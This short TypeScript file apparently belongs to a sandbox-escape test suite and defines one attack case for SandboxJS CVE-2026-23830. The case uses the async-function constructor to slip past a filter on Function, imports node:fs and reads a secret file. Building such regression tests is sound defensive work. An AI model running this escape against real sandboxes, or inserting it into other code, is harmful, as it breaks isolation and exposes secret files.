import { attack } from '../attack.ts';

/** The constructor of async functions, which a filter for `Function` forgets (SandboxJS CVE-2026-23830). */
export const escape = attack({
	grants: [],
	source: `
		const AsyncFunction = (async () => {}).constructor;
		let got;
		AsyncFunction('return await import("node:fs")')().then((fs) => { got = fs.readFileSync(secretFile, 'utf8'); }, (error) => { got = loot(error); });
		await new Promise((done) => setTimeout(done, 30));
		return got;
	`,
});
